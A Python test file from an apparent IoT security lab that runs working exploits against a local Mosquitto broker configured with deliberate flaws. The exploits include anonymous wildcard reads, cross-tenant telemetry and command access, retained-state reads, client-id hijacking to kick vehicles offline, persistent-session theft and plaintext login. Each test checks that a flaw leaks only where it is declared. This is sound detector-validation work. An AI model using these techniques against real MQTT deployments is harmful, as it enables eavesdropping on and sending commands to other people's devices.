"""Each MQTT flaw exploited with plain paho against a real Mosquitto, and gone when switched off.

Every exploit returns whether the victim's canary crossed over. A negative is proven, not
waited out: after the canary, a sentinel goes to a channel the attacker may read, and the
attacker reports whichever arrives first (Mosquitto keeps per-client order). Each exploit
runs against the secure broker and against one broker per flaw; wherever it leaks, its cell
must be among that flaw's ground-truth cells, and each flaw's own exploit must leak.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from iotvet.lab.flaws import FLAWS, GroundCell
from iotvet.lab.mqtt import flaws as F
from iotvet.lab.mqtt import topics
from iotvet.lab.mqtt.accounts import MqttAccount
from iotvet.lab.mqtt.broker import Broker
from tests.lab.mqtt_fixtures import RH1, VC1, VC2, Exploit, attempt, connected, lab_accounts, nonce, running_broker

pytestmark = pytest.mark.timeout(60)

Accounts = dict[str, MqttAccount]


@dataclass(frozen=True)
class Case:
    """An exploit, the cell it touches, and the flaw it is written for."""

    name: str
    run: Exploit
    cell: GroundCell
    flaw: str


def _read_canary(
    broker: Broker,
    accounts: Accounts,
    attacker: str | None,
    victim_filter: str,
    own_topic: str,
    canary_topic: str,
    canary_from: str,
    **options: object,
) -> bool:
    """``attacker`` subscribes to ``victim_filter`` and its own ``own_topic``; who wins, canary or sentinel?"""
    with attempt(broker, accounts[attacker] if attacker else None, **options) as spy:
        if not spy.accepted:
            return False
        spy.subscribe(victim_filter, own_topic)
        canary, sentinel = nonce(), nonce()
        with connected(broker, accounts[canary_from]) as victim:
            victim.publish(canary_topic, {"nonce": canary})
        with connected(broker, accounts["backend"]) as backend:  # one login per account: ids are usernames
            backend.publish(own_topic, {"nonce": sentinel})
        seen, _ = spy.first_of(canary, sentinel)
        return seen == canary


def anon_wildcard(broker: Broker, accounts: Accounts) -> bool:
    return _read_canary(
        broker,
        accounts,
        None,
        "+/+/telemetry",
        topics.telemetry("vistacam", VC1),
        topics.telemetry("roadhaus", RH1),
        "rh1",
    )


def app_exact_cmd(broker: Broker, accounts: Accounts) -> bool:
    return _read_canary(
        broker,
        accounts,
        "ana",
        topics.command("roadhaus", RH1),
        topics.telemetry("vistacam", VC1),
        topics.command("roadhaus", RH1),
        "backend",
    )


def device_exact_telemetry(broker: Broker, accounts: Accounts) -> bool:
    return _read_canary(
        broker,
        accounts,
        "vc1",
        topics.telemetry("vistacam", VC2),
        topics.command("vistacam", VC1),
        topics.telemetry("vistacam", VC2),
        "vc2",
    )


def same_tenant_telemetry(broker: Broker, accounts: Accounts) -> bool:
    return _read_canary(
        broker,
        accounts,
        "ben",
        topics.telemetry("vistacam", VC1),
        topics.telemetry("vistacam", VC2),
        topics.telemetry("vistacam", VC1),
        "vc1",
    )


def app_wildcard_telemetry(broker: Broker, accounts: Accounts) -> bool:
    return _read_canary(
        broker,
        accounts,
        "ana",
        "+/+/telemetry",
        topics.telemetry("vistacam", VC1),
        topics.telemetry("roadhaus", RH1),
        "rh1",
    )


def device_clientid_cmd(broker: Broker, accounts: Accounts) -> bool:
    """The vistacam vehicle's credential, connecting with the roadhaus vehicle's VIN as client id."""
    return _read_canary(
        broker,
        accounts,
        "vc1",
        topics.command("roadhaus", RH1),
        topics.command("vistacam", VC1),
        topics.command("roadhaus", RH1),
        "backend",
        client_id=RH1,
    )


def _retained_state(broker: Broker, accounts: Accounts, attacker: str | None) -> bool:
    """The victim vehicle's retained state is stored first; the attacker subscribes afterwards."""
    canary, sentinel = nonce(), nonce()
    victim_state, own = topics.state("roadhaus", RH1), topics.telemetry("vistacam", VC1)
    with connected(broker, accounts["rh1"]) as victim:
        victim.publish(victim_state, {"nonce": canary}, retain=True)
    try:
        with attempt(broker, accounts[attacker] if attacker else None) as spy:
            if not spy.accepted:
                return False
            spy.subscribe(victim_state, own)
            with connected(broker, accounts["backend"]) as backend:
                backend.publish(own, {"nonce": sentinel})
            seen, message = spy.first_of(canary, sentinel)
            return seen == canary and message.retain
    finally:
        with connected(broker, accounts["rh1"]) as victim:
            victim.publish(victim_state, b"", retain=True)


def anon_retained(broker: Broker, accounts: Accounts) -> bool:
    return _retained_state(broker, accounts, None)


def app_retained(broker: Broker, accounts: Accounts) -> bool:
    return _retained_state(broker, accounts, "ana")


def app_write_cmd(broker: Broker, accounts: Accounts) -> bool:
    """ana (vistacam) sends a no-op command to a roadhaus vehicle; does the vehicle get it?"""
    canary, sentinel = nonce(), nonce()
    victim_cmd = topics.command("roadhaus", RH1)
    with connected(broker, accounts["rh1"], client_id=RH1) as vehicle:
        vehicle.subscribe(victim_cmd)
        with connected(broker, accounts["ana"]) as attacker:
            attacker.publish(victim_cmd, {"cmd": "ping", "nonce": canary})
        with connected(broker, accounts["backend"]) as backend:
            backend.publish(victim_cmd, {"cmd": "ping", "nonce": sentinel})
        seen, _ = vehicle.first_of(canary, sentinel)
        return seen == canary


def clientid_kick(broker: Broker, accounts: Accounts) -> bool:
    """ana connects with the roadhaus vehicle's client id (its VIN, or its username); is the vehicle dropped?"""
    account = accounts["rh1"]
    sentinel = nonce()
    with connected(broker, account, client_id=RH1) as vehicle:
        vehicle.subscribe(topics.command("roadhaus", RH1))
        for stolen_id in (RH1, account.username):
            with attempt(broker, accounts["ana"], client_id=stolen_id):
                pass
        with connected(broker, accounts["backend"]) as backend:
            backend.publish(topics.command("roadhaus", RH1), {"cmd": "ping", "nonce": sentinel})
        if vehicle.disconnected.is_set():
            return True
        vehicle.first_of(sentinel)
        return vehicle.disconnected.is_set()


def session_steal(broker: Broker, accounts: Accounts) -> bool:
    """A command queued for the offline vehicle's persistent session: does ana's login inherit it?"""
    canary, sentinel = nonce(), nonce()
    victim_cmd, own = topics.command("roadhaus", RH1), topics.telemetry("vistacam", VC1)
    with connected(broker, accounts["rh1"], client_id=RH1, clean=False) as vehicle:
        vehicle.subscribe(victim_cmd)
    with connected(broker, accounts["backend"]) as backend:
        backend.publish(victim_cmd, {"cmd": "ping", "nonce": canary})
    try:
        with connected(broker, accounts["ana"], client_id=RH1, clean=False) as thief:
            thief.subscribe(own)
            with connected(broker, accounts["backend"]) as backend:
                backend.publish(own, {"nonce": sentinel})
            seen, _ = thief.first_of(canary, sentinel)
            return seen == canary
    finally:
        for account in (accounts["ana"], accounts["rh1"]):  # drop both persistent sessions
            with attempt(broker, account, client_id=RH1, clean=True):
                pass


def plaintext_login(broker: Broker, accounts: Accounts) -> bool:
    if broker.plain_url is None:
        return False
    with attempt(broker, accounts["ana"], listener="plain") as client:
        return client.accepted


CASES = [
    Case("anon-wildcard", anon_wildcard, GroundCell("anonymous", topic=topics.TEMPLATES["telemetry"]), F.ANON),
    Case("anon-retained", anon_retained, GroundCell("anonymous", topic=topics.TEMPLATES["state"]), F.ANON),
    Case("app-exact-cmd", app_exact_cmd, GroundCell("other-tenant", topic=topics.TEMPLATES["command"]), F.NO_ACL),
    Case(
        "device-exact-telemetry",
        device_exact_telemetry,
        GroundCell("device", topic=topics.TEMPLATES["telemetry"]),
        F.NO_ACL,
    ),
    Case(
        "same-tenant-telemetry",
        same_tenant_telemetry,
        GroundCell("same-tenant", topic=topics.TEMPLATES["telemetry"]),
        F.NO_ACL,
    ),
    Case(
        "app-wildcard-telemetry",
        app_wildcard_telemetry,
        GroundCell("other-tenant", topic=topics.TEMPLATES["telemetry"]),
        F.WILDCARD_GRANT,
    ),
    Case(
        "app-retained-state",
        app_retained,
        GroundCell("other-tenant", topic=topics.TEMPLATES["state"]),
        F.RETAINED_STATE,
    ),
    Case("app-write-cmd", app_write_cmd, GroundCell("other-tenant", topic=topics.TEMPLATES["command"]), F.XTENANT_CMD),
    Case(
        "device-clientid-cmd",
        device_clientid_cmd,
        GroundCell("other-tenant", topic=topics.TEMPLATES["command"]),
        F.CLIENTID_ACL,
    ),
    Case(
        "clientid-kick", clientid_kick, GroundCell("other-tenant", topic=topics.TEMPLATES["command"]), F.CLIENTID_KICK
    ),
    Case(
        "session-steal", session_steal, GroundCell("other-tenant", topic=topics.TEMPLATES["command"]), F.SESSION_STEAL
    ),
    Case("plaintext-login", plaintext_login, GroundCell("self", topic="#"), F.PLAINTEXT),
]


@pytest.fixture(scope="module")
def accounts() -> Accounts:
    return lab_accounts()


@pytest.fixture(scope="module", params=["secure", *sorted(F.MQTT_FLAWS)])
def flawed(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, accounts: Accounts
) -> Iterator[tuple[str, Broker]]:
    name: str = request.param
    tmp: Path = tmp_path_factory.mktemp(name)
    with running_broker(set() if name == "secure" else {name}, tmp, accounts) as broker:
        yield name, broker


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_exploit_matches_ground_truth(case: Case, flawed: tuple[str, Broker], accounts: Accounts) -> None:
    name, broker = flawed
    leaked = case.run(broker, accounts)
    if name == "secure":
        assert not leaked, f"{case.name} leaks on the secure broker"
    elif name == case.flaw:
        assert leaked, f"{case.name} does not demonstrate {name}"
    elif leaked:
        assert case.cell in FLAWS[name].cells(None), f"{case.name} leaks under {name} but its cell is not declared"


def test_every_mqtt_flaw_has_an_exploit() -> None:
    assert {c.flaw for c in CASES} == set(F.MQTT_FLAWS)


def test_flaws_name_catalogue_checks() -> None:
    from iotvet.checks.registry import CATALOGUE

    known = set(CATALOGUE)
    for declared in F.MQTT_FLAWS.values():
        assert declared.plane == "mqtt"
        assert declared.check in known
        assert declared.cells(None), declared.id
